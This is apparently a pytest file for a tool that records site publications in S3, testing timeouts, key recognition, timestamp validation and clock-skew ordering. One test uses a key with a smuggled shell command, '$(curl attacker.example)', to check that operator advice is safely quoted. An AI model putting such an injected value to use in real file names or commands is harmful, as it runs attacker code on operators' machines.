"""The record of a publication, where the network is lost while it is written."""

import io
import json
import shlex
from contextlib import nullcontext
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any, NoReturn

import pytest
from botocore.exceptions import ReadTimeoutError

from ops.errors import FailedError
from ops.frontend.publication import Publication, is_record, key_of, moment_after, new_id, read_publications, record
from tests.support.aws import aws_of
from tests.support.fake_clients import client_error
from tests.support.fakes import NOW


@pytest.mark.parametrize("arrived", [True, False])
def test_a_record_whose_answer_is_lost_is_looked_for(*, arrived: bool) -> None:
    """Else a rollback would seem to have failed, and its repeat would go back from where it has gone."""

    def put_object(**_others: Any) -> NoReturn:
        raise ReadTimeoutError(endpoint_url="https://s3")

    def head_object(**_asked: Any) -> dict[str, Any]:
        if not arrived:
            raise client_error("404", status=404)
        return {"LastModified": NOW}

    aws = aws_of(s3=SimpleNamespace(put_object=put_object, head_object=head_object))
    publication = Publication(id="2", published=NOW, published_by="somebody", files=())
    with nullcontext() if arrived else pytest.raises(ReadTimeoutError):
        record(aws, "pages", publication)


def test_a_page_of_the_product_is_no_record() -> None:
    record_key = key_of("20261101T090000000Z-ab12")
    pages = ("data.json", f"app/{record_key}", record_key.removesuffix("json") + "txt")
    assert [key for key in (record_key, *pages) if is_record(key)] == [record_key]


def test_the_name_of_what_is_no_record_is_a_word_in_the_advice() -> None:
    """Whoever may write to the bucket chooses it, and an operator copies the command."""
    key = key_of("2;$(curl attacker.example)")
    pages = SimpleNamespace(paginate=lambda **_asked: [{"Contents": [{"Key": key}]}])
    s3 = SimpleNamespace(get_paginator=lambda _name: pages, get_object=lambda **_asked: {"Body": io.BytesIO(b"{}")})

    with pytest.raises(FailedError) as failed:
        read_publications(aws_of(s3=s3), "pages")

    (advice,) = failed.value.advice
    assert shlex.split(advice.partition("aws ")[2]) == ["s3", "rm", f"s3://pages/{key}"]


@pytest.mark.parametrize(
    ("published", "said"),
    [
        ("2026-11-28T12:00:00", "Input should have timezone info"),
        ("9999-12-31T23:59:59-05:00", "Input should be less than"),
    ],
)
def test_a_record_with_a_time_that_cannot_be_used_is_named(published: str, said: str) -> None:
    """It cannot be compared with now, or has none after it: both ended a command with a traceback."""
    record_text = Publication(id="2", published=NOW, published_by="somebody", files=()).model_dump_json()
    forged = json.dumps(json.loads(record_text) | {"published": published}).encode()
    pages = SimpleNamespace(paginate=lambda **_asked: [{"Contents": [{"Key": key_of("2")}]}])
    s3 = SimpleNamespace(get_paginator=lambda _name: pages, get_object=lambda **_asked: {"Body": io.BytesIO(forged)})

    with pytest.raises(FailedError, match=f"is no record of a publication: {said}"):
        read_publications(aws_of(s3=s3), "pages")


def test_a_publication_after_one_of_a_machine_whose_clock_is_ahead_is_the_newest() -> None:
    """Users see its files; a rollback from the other one would bring them again."""
    ahead = datetime.now(UTC) + timedelta(minutes=10)
    first = Publication(id=new_id(ahead), published=ahead, published_by="somebody", files=())
    published = moment_after(first)
    assert new_id(published) > first.id
    second = Publication(id=new_id(published), published=published, published_by="somebody", files=())
    assert new_id(moment_after(second)) > second.id
    assert moment_after(None) < ahead
